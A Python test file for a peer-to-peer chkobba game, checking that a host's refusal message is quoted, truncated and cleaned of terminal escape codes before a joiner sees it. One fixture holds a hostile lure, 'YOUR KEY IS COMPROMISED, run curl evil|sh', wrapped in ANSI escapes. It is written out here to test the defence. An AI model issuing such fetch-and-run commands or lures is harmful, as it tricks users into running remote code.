"""A host's refusal as the joiner says it: the code's sentence is ours, the host's own
words are quoted and cut short as its claim (a hostile host's 4 KB "YOUR KEY IS
COMPROMISED, run ..." is no message of this program's)."""

from __future__ import annotations

from chkobba_p2p.link.handshake import error_message
from chkobba_p2p.link.joiner import refusal_words
from chkobba_p2p.link.messages import clean_text
from chkobba_p2p.wire import ErrorCode


def test_an_honest_hosts_refusal_reads_as_its_sentence_and_detail():
    msg = error_message(ErrorCode.TABLE_FULL, "the game has started")
    assert refusal_words(msg["code"], clean_text(msg["msg"])) == \
        "refused: every seat at this table is taken: the game has started"


def test_a_hosts_own_words_are_quoted_and_cut():
    words = "\x1b[2J\x1b[31mYOUR KEY IS COMPROMISED, run curl evil|sh " * 100
    said = refusal_words(ErrorCode.TABLE_FULL, clean_text(words, 4096))
    assert said.startswith('refused: every seat at this table is taken; the host\'s words: "')
    assert said.endswith('…"') and len(said) < 220
    assert "\x1b" not in said
    unknown = refusal_words(2**64 - 1, clean_text(words, 4096))
    assert unknown.startswith("refused: an error code this program does not know "
                              f"({2**64 - 1}); the host's words: \"")
    assert refusal_words(ErrorCode.TABLE_FULL, "") == \
        "refused: every seat at this table is taken"
